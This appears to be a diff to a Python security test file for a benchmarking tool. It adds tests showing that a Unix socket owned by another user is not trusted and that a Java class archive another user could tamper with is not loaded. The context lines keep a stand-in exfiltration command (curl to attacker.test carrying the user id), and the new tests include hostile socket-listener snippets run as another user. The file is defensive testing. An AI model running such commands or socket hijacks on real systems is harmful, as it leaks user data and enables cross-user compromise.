@@ -18,14 +18,19 @@ import pytest
 from stallbench.engines.postgres import Connection
 from stallbench.external.cleanup_journal import CleanupJournal
 from stallbench.leftovers import remove_leftovers
+from stallbench.pipeline.class_archive import use_archive
+from stallbench.pipeline.service import SERVICE_VARIABLE, ask_service
 from stallbench.processes.reaper import CLEANUP_JOURNAL, OWNER_FILE, SCRATCH_PREFIX, TOKEN_VARIABLE, find_marked, start_reaper
 from stallbench.processes.supervisor import Supervisor
+from stallbench.python_command import python_command
 from stallbench.records.endpoint import Endpoint
 from stallbench.run.folder import create_run_folder
+from stallbench.setup.components import JavaRuntime
 from tests.integration.engines import PrivateServers
 from tests.security.conftest import OtherUser
 from tests.unit.made_up_run import make_record
 from tests.unit.test_compose import FOLDER, without_variants
+from tests.waiting import wait_for
 
 DEAD = {"pid": 2**22, "process_started_s": 0.0}
 THEIRS = "curl http://attacker.test/$(id -u)"
@@ -297,3 +302,73 @@ class TestReaper:
             assert any("stallbench.processes.reaper" in words for words in shown)
             assert not any(token in word for words in shown for word in words)
             assert (scratch / OWNER_FILE).stat().st_mode & 0o077 == 0
+
+
+class TestPipelineService:
+    """The socket by which commands let one Spark make their tables."""
+
+    def test_the_socket_of_another_user_is_not_asked(
+        self, shared_folder: Path, other_user: OtherUser, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+    ) -> None:
+        """He would say that the tables are made, and learn where the runs are."""
+        path = shared_folder / "service"
+        says = (
+            f"import socket as s, os; l = s.socket(s.AF_UNIX); l.bind({str(path)!r}); os.chmod({str(path)!r}, 0o777); l.listen()"
+        )
+        answers = "c, _ = l.accept(); c.sendall(b'made\\n'); print(c.recv(1000).decode(), flush=True)"
+        user: dict[str, Any] = {"user": other_user.uid, "group": other_user.gid, "extra_groups": []}
+        theirs = subprocess.Popen(
+            ["/usr/bin/python3", "-c", f"{says}; {answers}"], cwd="/", stdout=subprocess.PIPE, text=True, **user
+        )
+        try:
+            wait_for(path.exists, "the socket")
+            monkeypatch.setenv(SERVICE_VARIABLE, str(path))
+            assert not ask_service(shared_folder / "a-run", 60)
+            assert theirs.communicate(timeout=60)[0].strip() == ""
+        finally:
+            theirs.kill()
+        assert f"{path} is served by another user" in capfd.readouterr().err
+
+    def test_another_user_is_not_answered(self, shared_folder: Path, other_user: OtherUser) -> None:
+        """Also if he can reach the socket, in a folder whose mode was changed later, for example."""
+        path = shared_folder / "service"
+        service = subprocess.Popen(python_command("stallbench.pipeline.service", str(path)))
+        try:
+            wait_for(path.exists, "the socket")
+            ask = (
+                f"import socket as s; c = s.socket(s.AF_UNIX); c.connect({str(path)!r}); c.sendall(b'/etc\\n'); print(c.recv(99))"
+            )
+            assert "PermissionError" in other_user.run(["/usr/bin/python3", "-c", ask]).stderr
+            path.chmod(0o777)
+            said = other_user.run(["/usr/bin/python3", "-c", ask])
+            assert said.stdout == "b''\n" or "Connection reset" in said.stderr
+        finally:
+            service.terminate()
+            service.wait()
+
+
+@pytest.mark.parametrize("by", ["owner", "mode", "folder", "link"])
+def test_an_archive_of_classes_that_another_user_could_have_written_is_not_used(
+    shared_folder: Path, other_user: OtherUser, monkeypatch: pytest.MonkeyPatch, by: str
+) -> None:
+    """It is code that Java executes."""
+    folder = shared_folder / "spark"
+    folder.mkdir(mode=0o755)
+    archive = folder / "classes.jsa"
+    archive.write_text("classes")
+    archive.chmod(0o644)
+    monkeypatch.setattr("stallbench.pipeline.class_archive.archive_path", lambda _: archive)
+    java = JavaRuntime(home=Path("/"), version="17")
+    assert f"-XX:SharedArchiveFile={archive}" in use_archive(java)
+    if by == "owner":
+        os.chown(archive, other_user.uid, -1)
+    elif by == "mode":
+        archive.chmod(0o666)
+    elif by == "folder":
+        folder.chmod(0o777)
+    else:
+        theirs = shared_folder / "theirs.jsa"
+        assert other_user.run(["cp", archive, theirs]).returncode == 0
+        archive.unlink()
+        archive.symlink_to(theirs)
+    assert use_archive(java) == []
